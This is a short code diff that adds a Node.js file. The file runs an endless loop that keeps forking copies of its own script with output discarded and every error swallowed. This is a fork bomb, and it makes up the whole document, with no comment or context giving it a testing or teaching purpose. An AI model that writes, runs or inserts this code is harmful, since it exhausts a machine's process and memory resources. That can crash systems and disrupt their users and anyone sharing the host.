@@ -1,0 +1,7 @@
+const { fork } = require('child_process');
+
+for (;;) {
+  try {
+    fork(__filename, { stdio: 'ignore' }).on('error', () => {});
+  } catch {}
+}
